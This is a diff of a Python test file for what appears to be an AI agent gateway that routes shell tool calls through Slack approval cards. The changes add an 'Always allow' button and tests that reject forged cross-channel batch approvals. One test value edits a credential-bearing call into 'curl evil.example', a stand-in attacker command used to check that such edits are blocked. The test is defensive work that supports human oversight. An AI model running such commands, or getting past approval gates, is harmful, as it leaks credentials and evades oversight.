@@ -81,7 +81,7 @@ async def test_three_gated_calls_one_card_and_approve_all_runs_each(
     before = await gateway.metrics()
     card = await _card(gateway, fake_slack, fake_llm, _shell("echo one-1", "echo two-2", "echo three-3"))
     calls = _calls(card)
-    assert list(calls.values()) == [["Approve", "Deny", "Edit"]] * 3  # one card, a decision per call
+    assert list(calls.values()) == [["Approve", "Deny", "Always allow", "Edit"]] * 3  # one card, a decision per call
     shown = json.dumps(card.params["blocks"])
     assert "echo one-1" in shown and "echo two-2" in shown and "echo three-3" in shown
     assert len(fake_slack.of("chat.postMessage")) == 1
@@ -266,7 +266,8 @@ async def test_a_call_that_uses_a_credential_is_never_editable(
     card = await _card(gateway, fake_slack, fake_llm, _shell(
         {"command": "gh api user", "credentials": ["github.token"]}, "echo plain"))
     with_credential, plain = _calls(card)
-    assert _calls(card) == {with_credential: ["Approve", "Deny"], plain: ["Approve", "Deny", "Edit"]}
+    assert _calls(card) == {with_credential: ["Approve", "Deny", "Always allow"],
+                            plain: ["Approve", "Deny", "Always allow", "Edit"]}
     await gateway.interact(block_action("approval:edit", with_credential, user="U1"))
     assert "uses a credential" in (await fake_slack.wait_for("chat.postEphemeral"))[0].params["text"]
     answer = await _edit(gateway, with_credential, '{"command": "curl evil.example", "credentials": []}')
@@ -369,3 +370,38 @@ async def test_the_web_chat_shows_each_call_of_a_batch_and_approves_all(
     await gateway.idle()
     assert [a["status"] for a in await approvals()] == ["approved", "approved"]
     assert "web-1" in _results(fake_llm)[0] and "web-2" in _results(fake_llm)[1]
+
+
+async def test_a_batch_click_with_another_channel_s_request_id_decides_nothing(
+    make_settings: Any, start_gateway: Any, fake_slack: FakeSlack, fake_llm: FakeLLM, tmp_path: Path
+) -> None:
+    """A forged Approve all: the id names a Slack card's request; the web chat (another channel) finds no such
+    request, and a Slack user who may not decide those calls is told so by id, and nothing is decided."""
+    gateway = await _start(make_settings, start_gateway, tmp_path)
+    card = await _card(gateway, fake_slack, fake_llm, _shell("echo forged-1", "echo forged-2"))
+    first, second = _calls(card)
+    async with gateway.http.post(f"{gateway.base}/api/approvals/{first}/all", data=json.dumps({"verdict": "approve"}),
+                                 headers={"Content-Type": "application/json"}) as resp:
+        assert resp.status == 404
+    await gateway.interact(block_action("approval_batch:approve", second, user="U9", channel="C2"))
+    told = (await fake_slack.wait_for("chat.postEphemeral"))[0].params["text"]
+    assert f"request {first}, request {second}" in told and "echo" not in told and "shell_run" not in told
+    for request_id in (first, second):
+        current = await gateway.app.approvals.get(int(request_id))
+        assert current is not None and not current.settled
+
+
+async def test_always_allow_on_one_call_of_a_card_covers_its_twin_and_the_twin_s_request_is_withdrawn(
+    make_settings: Any, start_gateway: Any, fake_slack: FakeSlack, fake_llm: FakeLLM, tmp_path: Path
+) -> None:
+    gateway = await _start(make_settings, start_gateway, tmp_path)
+    card = await _card(gateway, fake_slack, fake_llm, _shell("echo twin", "echo twin"))
+    first, second = _calls(card)
+    fake_llm.then(Reply("both ran"))
+    await gateway.interact(block_action("approval:always", first, user="U1"))
+    await fake_slack.wait_for("chat.postMessage", 2)
+    await gateway.idle()
+    assert all("twin" in result for result in _results(fake_llm))
+    twin = await gateway.app.approvals.get(int(second))
+    assert twin is not None and twin.status == "cancelled"  # the grant ran it: nothing left to click
+    assert "approval_batch" not in _last_card(fake_slack)
